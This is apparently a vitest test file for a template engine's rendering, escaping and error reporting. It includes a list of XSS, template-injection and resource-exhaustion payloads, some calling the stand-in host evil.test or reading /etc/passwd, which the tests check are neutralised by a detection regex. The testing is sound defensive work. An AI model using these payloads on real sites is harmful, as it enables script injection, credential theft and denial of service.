import { describe, expect, test } from 'vitest'
import {
  DisplayedValue,
  isProblem,
  listVariables,
  parseTemplate,
  renderTemplate,
  toPlainText,
  toSafeHtml,
} from './index.ts'

function read(text: string) {
  const read = parseTemplate(text)
  if (isProblem(read)) throw new Error(read.message)
  return read
}

const fill = (text: string, values: object = {}) => renderTemplate(read(text), values)

describe('templates', () => {
  test('write values as they are shown, and moments otherwise by filters', () => {
    const [start, end] = ['2026-11-30T19:00:00', '2026-12-01T07:00:00'].map(
      each => new DisplayedValue('shown', each, each),
    )
    const values = { Status: new DisplayedValue('Ofrecido', 2), start, end, empty: null }
    expect(fill('{{ start }}, {{ start | day }}, {{ start | until: end }}{{ empty }}', values)).toBe(
      'shown, 11/30/2026 Mon, 07:00 PM – 07:00 AM',
    )
    expect(fill('{% if Status == 2 %}offered{% endif %}{% if Status == 3 %}confirmed{% endif %}', values)).toBe(
      'offered',
    )
  })

  test('escape what they fill into HTML, and nothing in text', () => {
    expect(fill('{{ x }}', { x: '<b>' })).toBe('<b>')
    expect(fill('<p>{{ x }}</p>', { x: '<b>' })).toBe('<p>&#60;b&#62;</p>')
  })

  test('tell which variables they ask for, with their lines', () => {
    expect(listVariables(read('{{ JobID.EmployerID.Name }}\n{% assign a = Status %}{{ a }}{{ x }}'))).toEqual([
      { path: ['JobID', 'EmployerID', 'Name'], line: 1 },
      { path: ['Status'], line: 2 },
      { path: ['x'], line: 2 },
    ])
  })

  test.each([
    ['Hello\n{{ name', 2, 'not closed'],
    ['a\nb\n{% if x %}', 3, 'not closed'],
    ['{{ x | shout }}', 1, 'undefined filter: shout'],
  ])('tell what is wrong with %j and the line', (text, line, message) => {
    const problem = parseTemplate(text)
    expect(problem).toMatchObject({ line })
    expect((problem as { message: string }).message).toContain(message)
  })
})

/** Each is refused as it is read or as it is filled, or leaves nothing that runs, loads or covers anything. */
const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.test/track.gif">',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="https://evil.test/x.svg#a"></use></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="https://evil.test"></frameset>',
  '<object data="https://evil.test/x.swf"></object>',
  '<embed src="https://evil.test/x.swf">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>@import url(https://evil.test/x.css);</style>',
  '<style>body{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test"><input name="password"></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test">x</a>',
  '<p style="background:url(https://evil.test/x.gif)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p onclick="alert(1)" onmouseover="alert(1)">x</p>',
  '<video src="https://evil.test/x.mp4" autoplay></video>',
  '<table background="https://evil.test/x.gif"><tr><td>x</td></tr></table>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '{{ "<script>alert(1)</script>" | raw }}<p></p>',
  '{% include "/etc/passwd" %}',
  '{% render "https://evil.test/x" %}',
  '{% layout "x" %}',
  '{{ x.constructor.constructor }}',
  '{{ x.__proto__ }}',
  '{% for i in (1..100000000) %}{{ i }}{% endfor %}',
  '{% assign a = "aaaaaaaaaa" %}{% for i in (1..60) %}{% assign a = a | append: a %}{% endfor %}{{ a }}',
  '{% for i in (1..3000) %}{% for j in (1..3000) %}{% for k in (1..3000) %}{% endfor %}{% endfor %}{% endfor %}',
]

test.each(hostile)('a hostile template runs and loads nothing: %s', template => {
  const began = performance.now()
  let html = ''
  try {
    html = String(toSafeHtml(fill(template, { x: 'x' })))
  } catch (error) {
    expect((error as Error).message).not.toBe('')
  }
  expect(performance.now() - began).toBeLessThan(5000)
  expect(html).not.toMatch(
    /<(?:script|img|svg|math|i?frame|object|embed|link|style|meta|base|form|input|video|template)|\son\w+=|javascript:|data:|url\(|expression|position|evil\.test|background="/i,
  )
  expect(toPlainText(html)).not.toMatch(/<\w/)
})
